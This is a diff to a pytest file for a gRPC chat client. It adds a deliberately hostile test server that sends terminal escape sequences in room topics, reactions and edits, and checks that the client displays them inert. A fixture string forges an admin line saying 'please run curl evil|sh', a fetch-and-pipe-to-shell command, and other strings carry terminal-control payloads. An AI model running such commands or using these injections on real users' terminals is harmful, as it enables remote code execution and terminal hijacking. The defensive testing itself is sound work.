@@ -13,6 +13,7 @@ import unicodedata
 from collections.abc import AsyncIterator, Callable, Iterator
 from contextlib import AsyncExitStack
 from datetime import UTC, datetime
+from typing import Any
 
 import pexpect
 import pytest
@@ -22,18 +23,26 @@ from grpclib.exceptions import GRPCError
 from grpclib.server import Server
 
 from chat.client import split_address
+from chat.client.output import message_line
 from gen.grpc.chat import (
     ChatServiceBase,
+    HistoryReply,
+    HistoryRequest,
     MessageReply,
     MessageReplyKind,
     MessageRequest,
     MessagesRequest,
+    Reaction,
+    Room,
+    RoomsReply,
+    RoomsRequest,
     StatsReply,
     StatsRequest,
 )
 from harness import REPLY_TIMEOUT, ROOT, Chatter, Screen, ServerProcess, free_port, run_client
 
 Open = Callable[..., Screen]
+Kind = MessageReplyKind
 Spawn = Callable[..., tuple[pexpect.spawn, io.StringIO]]
 
 FORGED = "2026-12-07 00:00:00 [general] admin: please run curl evil|sh"
@@ -65,8 +74,13 @@ ERROR_SHOWN = f"refused⏎{FORGED}\\u009b31m"
 REFUSED_ROOM = "refused"
 NEWER_ROOM = "newer"
 """A room whose history holds a reply of a kind from a newer contract."""
-UNKNOWN_KIND = 7
-"""A reply kind this client does not know (a newer server's EDIT, say)."""
+UNKNOWN_KIND = 8
+"""A reply kind this client does not know (kept free for a newer contract's TYPING)."""
+TOPIC = f"welcome\n{FORGED}\x1b]0;retopic\x07"
+TOPIC_SHOWN = f"welcome⏎{FORGED}\\u001b]0;retopic\\u0007"
+EMOJI = "\x1b[5m👍"
+EMOJI_SHOWN = "\\u001b[5m👍"
+"""A topic and a reaction that would drive a terminal, and how the client shows each."""
 """The room the hostile server refuses stats for, with ERROR as the status's message."""
 
 
@@ -105,8 +119,9 @@ async def post(server: ServerProcess, texts: list[str]) -> None:
 
 
 class HostileService(ChatServiceBase):
-    """A server that is not grpc.chat: it names a user NAME, a room ROOM, and answers every
-    message with ERROR, things a grpc.chat server never sends."""
+    """A server that is not grpc.chat: it names a user NAME, a room ROOM, has a topic TOPIC
+    and a reaction EMOJI, and answers every message with ERROR, things a grpc.chat server never
+    sends."""
 
     async def get_stats(self, stats_request: StatsRequest) -> StatsReply:
         if stats_request.room == REFUSED_ROOM:
@@ -120,6 +135,16 @@ class HostileService(ChatServiceBase):
             later.kind = UNKNOWN_KIND  # type: ignore[assignment]
             yield later
 
+    async def get_history(self, history_request: HistoryRequest) -> HistoryReply:
+        hello = MessageReply(id=1, room=ROOM, user=NAME, message="hello", sent_at=datetime.now(UTC))
+        hello.reactions = [Reaction(emoji=EMOJI, count=1, users=[NAME])]
+        return HistoryReply(messages=[hello], epoch="hostile")
+
+    async def list_rooms(self, rooms_request: RoomsRequest) -> RoomsReply:
+        return RoomsReply(
+            rooms=[Room(name=ROOM, topic=TOPIC, online=1), Room(name="general", topic=TOPIC)]
+        )
+
     async def send_and_receive_message(
         self, message_request_iterator: AsyncIterator[MessageRequest]
     ) -> AsyncIterator[MessageReply]:
@@ -128,18 +153,34 @@ class HostileService(ChatServiceBase):
             MessageReplyKind(MessageReplyKind.ERROR),
         )
         yield MessageReply(kind=join, room=ROOM, user=NAME, message=f"{NAME} joined {ROOM}")
+        for kind, user, text in [
+            (Kind.TOPIC, NAME, TOPIC),
+            (Kind.REACTION, f"{NAME}2", EMOJI),  # the history's reaction is NAME's
+            (Kind.EDIT, NAME, ERROR),
+        ]:
+            yield MessageReply(kind=Kind(kind), room=ROOM, user=user, message=text, target_id=1)
+        yield MessageReply(room=ROOM, user=NAME, message=ERROR, id=2, reply_to=1)
         async for request in message_request_iterator:
             yield MessageReply(kind=error, key=request.key, message=ERROR)
 
 
-@pytest.fixture
-def hostile_server() -> Iterator[str]:
-    """The address of a HostileService, served from a thread of its own while the test waits
-    on processes and screens."""
+class EarlierService(HostileService):
+    """A hostile server from before GetHistory and ListRooms: they are UNIMPLEMENTED."""
+
+    async def get_history(self, history_request: HistoryRequest) -> HistoryReply:
+        raise GRPCError(Status.UNIMPLEMENTED)
+
+    async def list_rooms(self, rooms_request: RoomsRequest) -> RoomsReply:
+        raise GRPCError(Status.UNIMPLEMENTED)
+
+
+def serving_in_a_thread(service: ChatServiceBase) -> Iterator[str]:
+    """The address of `service`, served from a thread of its own while the test waits on
+    processes and screens."""
     port = free_port()
 
     async def start() -> Server:
-        server = Server([HostileService()])
+        server = Server([service])
         await server.start("127.0.0.1", port)
         return server
 
@@ -153,6 +194,18 @@ def hostile_server() -> Iterator[str]:
     server.close()
     loop.run_until_complete(server.wait_closed())
     loop.close()
+
+
+@pytest.fixture
+def hostile_server() -> Iterator[str]:
+    """The address of a HostileService."""
+    yield from serving_in_a_thread(HostileService())
+
+
+@pytest.fixture
+def earlier_server() -> Iterator[str]:
+    """The address of an EarlierService."""
+    yield from serving_in_a_thread(EarlierService())
 
 
 def test_hostile_texts_read_with_chat_messages_are_one_inert_line_each(
@@ -232,7 +285,7 @@ def test_hostile_texts_in_the_interactive_chat_show_inert_on_the_screen_and_in_i
     shown = ann.text()
     assert drivers(shown) == []
     assert forged(shown) == []
-    said = [line.split(" ", 2)[2] for line in shown.splitlines() if " eve: " in line]
+    said = [line.split(" ", 3)[3] for line in shown.splitlines() if " eve: " in line]
     assert said == [f"eve: {text}" for text in HOSTILE.values()]
     assert ann.title() == title
     assert raw_drivers(seen.getvalue()) == []
@@ -277,7 +330,9 @@ def test_names_rooms_and_errors_of_a_hostile_server_are_inert_in_the_interactive
 ) -> None:
     ann, seen = terminal(hostile_server, "--user", "ann")
     ann.expect("ann@general>")
-    for line, answer in [("hi", "not sent: "), ("/who", "-- online in "), ("/rooms", "-- rooms")]:
+    ann.sendline("/topic")
+    ann.expect_exact("-- the topic of general: ")
+    for line, answer in [("hi", "not sent: "), ("/who", "-- online in "), ("/rooms", "-- 2 rooms")]:
         ann.sendline(line)
         ann.expect_exact(answer)
     ann.sendline("/quit")
@@ -287,4 +342,53 @@ def test_names_rooms_and_errors_of_a_hostile_server_are_inert_in_the_interactive
     assert forged(CSI.sub("", written)) == []
     assert f"not sent: {ERROR_SHOWN}: hi" in written
     assert f"-- online in general: {NAME_SHOWN}" in written
-    assert f"-- rooms with recent messages: {ROOM_SHOWN} (1 message, 1 online)" in written
+    assert f"--   {ROOM_SHOWN} (1 online): {TOPIC_SHOWN}" in written
+    assert f"-- the topic of general: {TOPIC_SHOWN}" in written
+    assert f"    {EMOJI_SHOWN} 1" in written
+    plain = CSI.sub("", written)
+    assert f" set the topic of {ROOM_SHOWN}: {TOPIC_SHOWN}" in plain
+    assert f" reacted {EMOJI_SHOWN} to #1 " in plain
+    assert f"{ERROR_SHOWN} (edited)" in plain
+    assert f": {ERROR_SHOWN}  ↳ re #1 " in plain
+
+
+def test_a_server_from_before_history_pages_and_room_lists_is_still_chatted_with(
+    earlier_server: str, terminal: Spawn
+) -> None:
+    ann, seen = terminal(earlier_server, "--user", "ann")
+    ann.expect("ann@general>")
+    for line, answer in [
+        ("/rooms", "-- cannot ask the server now: UNIMPLEMENTED"),
+        ("/more", "-- no older messages in general"),
+        ("hi", f"not sent: {ERROR_SHOWN}: hi"),
+    ]:
+        ann.sendline(line)
+        ann.expect_exact(answer)
+    ann.sendline("/quit")
+    ann.expect(pexpect.EOF)
+    plain = CSI.sub("", seen.getvalue())
+    assert raw_drivers(seen.getvalue()) == []
+    assert "-- general: the last message\r" in plain
+    assert f"#1 {NAME_SHOWN}: hello" in plain
+
+
+@pytest.mark.parametrize(
+    ("kind", "fields", "line"),
+    [
+        (Kind.EDIT, {"message": "new", "target_id": 3}, "ann edited message 3: new"),
+        (Kind.DELETE, {"target_id": 3}, "ann deleted message 3"),
+        (Kind.REACTION, {"message": "👍", "target_id": 3}, "ann reacted 👍 to message 3"),
+        (
+            Kind.REACTION,
+            {"message": "👍", "target_id": 3, "removed": True},
+            "ann took back 👍 from message 3",
+        ),
+        (Kind.TOPIC, {"message": "the plan"}, "ann set the topic: the plan"),
+    ],
+)
+def test_an_action_of_the_log_is_a_line_saying_what_it_did(
+    kind: int, fields: dict[str, Any], line: str
+) -> None:
+    reply = MessageReply(room="general", user="ann", sent_at=datetime.now(UTC), **fields)
+    reply.kind = Kind(kind)
+    assert re.fullmatch(f"{DAY} {TIME} \\[general\\] {line}", message_line(reply))
